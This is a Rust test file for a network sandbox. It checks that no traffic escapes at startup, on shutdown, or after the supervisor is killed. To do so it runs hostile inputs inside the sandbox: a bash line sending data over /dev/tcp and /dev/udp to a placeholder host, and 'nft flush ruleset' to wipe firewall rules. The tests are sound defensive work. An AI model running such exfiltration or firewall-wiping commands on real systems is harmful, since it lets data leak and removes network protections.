//! The edges of a sandbox's life: its first instruction, its end, and its supervisor's.

use std::process::{Child, Stdio};
use std::time::Duration;

use super::support::{Outer, PROBE, Shape, Wire, python, until};
use super::{DIRECT, clean, let_out, nothing_else_was_seen, proves, unfenced};

/// A host that would forward whatever no rule stops.
fn router() -> Option<(Outer, &'static str)> {
    Some((Outer::shaped(Shape { router: true, ..Shape::default() })?, python()?))
}

/// Shows by the host's own packets that the wire is watched, and finds nothing else on it.
#[track_caller]
fn nothing_but_the_hosts_own(outer: &Outer, python: &str, wire: &Wire) {
    unfenced(outer, python, "udp 203.0.113.9 5353 control-four + udp 2001:db8::9 5353 control-six");
    nothing_else_was_seen(wire);
}

#[test]
fn from_the_first_instruction_on() {
    proves(&["Anything before the fence is committed, or after the supervisor is killed."]);
    let Some((outer, python)) = router() else { return };
    let wire = outer.watch();
    for _ in 0..20 {
        // A shell that sends with its first words, and ends with a packet on its way.
        let words = "for i in 1 2 3 4 5; do echo LEAK; done 2>/dev/null >/dev/udp/203.0.113.10/9; echo LEAK >/dev/tcp/203.0.113.10/80";
        let said = outer.output(&mut outer.ringfence(["run", "--allow", "203.0.113.9", "--", "bash", "-c", words]));
        assert_eq!(said.status.code(), Some(1), "{}", String::from_utf8_lossy(&said.stderr));
    }
    nothing_but_the_hosts_own(&outer, python, &wire);
    until("everything is gone", || clean(&outer));
}

/// Starts a program inside that has thrown the rules away and sends without end; gives it once its frames reach the host.
fn hostile(outer: &Outer, python: &str, flags: &str) -> Child {
    let near = outer.watch_host();
    let script = format!("nft flush ruleset; exec {python} -I {PROBE} chatter 203.0.113.10 9 0.0005");
    let flags = format!("run {DIRECT} --keep-caps NET_ADMIN,NET_RAW --tampering report {flags} -- sh -c");
    let mut command = outer.ringfence(flags.split_whitespace().chain([script.as_str()]));
    let child = outer.spawn(command.stdout(Stdio::null()).stderr(Stdio::null()));
    until("its frames reach the host", || near.frames().iter().filter(|frame| frame.holds(b"LEAK")).count() > 5);
    child
}

#[test]
fn after_the_supervisor_is_killed() {
    proves(&["Anything before the fence is committed, or after the supervisor is killed."]);
    let Some((outer, python)) = router() else { return };
    let wire = outer.watch();
    for flags in ["", "--share-pid", "", "--share-pid", ""] {
        let mut child = hostile(&outer, python, flags);
        child.kill().unwrap();
        child.wait().unwrap();
        until("everything is gone", || clean(&outer));
    }
    nothing_but_the_hosts_own(&outer, python, &wire);
}

#[test]
fn after_the_command_is_stopped() {
    let Some((outer, python)) = router() else { return };
    let wire = outer.watch();
    for flags in ["", "--share-pid", ""] {
        let mut child = hostile(&outer, python, flags);
        let pid = rustix::process::Pid::from_child(&child);
        rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
        child.wait().unwrap();
        until("everything is gone", || clean(&outer));
    }
    nothing_but_the_hosts_own(&outer, python, &wire);
}

#[test]
fn what_was_queued_when_the_command_ended() {
    let Some((outer, python)) = router() else { return };
    let wire = outer.watch();
    // Packets wait in a queue of the sandbox's own making when the program is gone, and hold its namespace until they are sent.
    let script = format!(
        "nft flush ruleset; tc qdisc add dev eth0 root tbf rate 16kbit burst 2000 limit 1000000; \
         for i in 1 2 3 4 5 6 7 8; do timeout 0.02 {python} -I {PROBE} chatter 203.0.113.10 9 0; done; \
         timeout 0.3 {python} -I {PROBE} chatter 203.0.113.10 9 0; tc -s qdisc show dev eth0"
    );
    let said = outer.run(&format!("{DIRECT} --keep-caps NET_ADMIN,NET_RAW --tampering report"), &["sh", "-c", &script]);
    assert!(said.contains("backlog"), "{said}");
    std::thread::sleep(Duration::from_millis(1500));
    let strangers = wire.strangers(let_out);
    assert!(strangers.is_empty(), "{} frames got out: {:?}\n{said}", strangers.len(), strangers[0]);
    nothing_but_the_hosts_own(&outer, python, &wire);
}
